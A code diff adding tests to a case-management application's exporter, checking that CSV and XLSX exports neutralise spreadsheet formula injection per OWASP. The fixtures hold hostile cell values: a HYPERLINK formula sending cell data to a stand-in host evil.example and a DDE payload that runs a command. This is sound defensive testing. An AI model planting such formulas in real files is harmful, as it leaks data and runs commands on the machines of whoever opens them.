@@ -18,3 +18,71 @@ def test_a_cursor_out_of_range_is_a_400(api: Any, world: World, cursor: str) -> 
     res = api(world.users["analyst"]).get(f"/api/cases/?after={cursor}")
     assert res.status_code == 400, res.content
     assert res.json()["code"] == "invalid" and "after" in res.json()["title"]
+
+
+FORMULAS = {
+    "area": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "summary": "+1+cmd|' /C calc'!A0",
+    "reference": "=SUM(1+1)",
+    "source_record_id": "-2+3",
+}
+
+
+def _formula_case(world: World) -> Any:
+    import copy
+
+    from vigie.cases import services
+    from vigie.cases.tests.conftest import RECORD
+
+    record = copy.deepcopy(RECORD)
+    record.update(FORMULAS)
+    record["victims"][0]["given_name"] = "\tTab"
+    record["victims"][0]["other_names"] = "@alias"
+    return services.save_record(world.users["case_manager"], world.own, record)
+
+
+def _cells(path: Any) -> list[str]:
+    import csv
+
+    if path.suffix == ".xlsx":
+        import openpyxl
+
+        book = openpyxl.load_workbook(path)
+        out = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value}"
+                    out.append("" if cell.value is None else str(cell.value))
+        return out
+    with path.open(encoding="utf-8", newline="") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "htcds-csv", "htcds-xlsx", "ctdc"])
+def test_exports_carry_no_formula(world: World, tmp_path: Any, fmt: str) -> None:
+    from vigie.cases import exporter
+
+    _formula_case(world)
+    suffix = ".xlsx" if fmt.endswith("xlsx") else ".csv"
+    path = tmp_path / f"out{suffix}"
+    assert exporter.export(world.users["case_manager"], fmt, path, identity=True) == 1
+    cells = _cells(path)
+    assert cells
+    for cell in cells:
+        if suffix == ".csv" and cell:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
+    if suffix == ".csv" and fmt != "ctdc":  # CTDC carries codes only
+        assert "'=SUM(1+1)" in cells or "'-2+3" in cells  # neutralised, not dropped
+    if fmt in ("csv", "xlsx"):
+        assert {"'=SUM(1+1)", "=SUM(1+1)"} & set(cells)
+
+
+def test_the_neutraliser_follows_owasp() -> None:
+    from vigie.core.cells import neutralise
+
+    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"):
+        assert neutralise(bad) == "'" + bad
+    for fine in ("-99", "+3.5", "-0.25e3", "Sinjar", "", "a=b", 5, None, -3):
+        assert neutralise(fine) == fine
